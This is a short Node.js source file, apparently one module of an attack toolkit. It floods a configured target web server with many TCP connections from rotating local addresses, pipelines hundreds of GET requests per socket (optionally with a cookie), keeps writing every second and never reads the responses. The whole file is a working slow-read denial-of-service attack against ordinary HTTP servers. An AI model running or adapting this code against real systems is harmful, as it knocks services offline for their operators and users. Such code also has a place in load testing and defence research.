// Asks for much and reads nothing of it: something large, or many small things ahead of their replies.
import { connect } from 'node:net';
import { anAddress, count, inFullSwing, settings, target } from './attack.mjs';

const wanted = settings.connections ?? 100;
const pages = settings.pages ?? ['/gate/board.json'];
const cookie = settings.cookie ? `Cookie: ${settings.cookie}\r\n` : '';
let open = 0;
let next = 0;

function openOne() {
  const page = pages[next++ % pages.length];
  const socket = connect({ host: target.hostname, port: Number(target.port), localAddress: anAddress() });
  open++;
  socket.pause();
  socket.write(
    `GET ${page} HTTP/1.1\r\nHost: ${target.host}\r\n${cookie}\r\n`.repeat(page?.startsWith('/gate/') ? 500 : 1),
  );
  // A connection that the other side cut is noticed by writing on it.
  const timer = setInterval(() => socket.write(`GET ${page} HTTP/1.1\r\nHost: ${target.host}\r\n${cookie}\r\n`), 1_000);
  socket.on('connect', () => count('opened'));
  socket.on('error', () => count('cut'));
  socket.on('close', () => {
    clearInterval(timer);
    open--;
  });
}

setInterval(() => {
  for (let more = 0; more < 10 && open < wanted; more++) openOne();
  if (next >= wanted) inFullSwing();
}, 50);
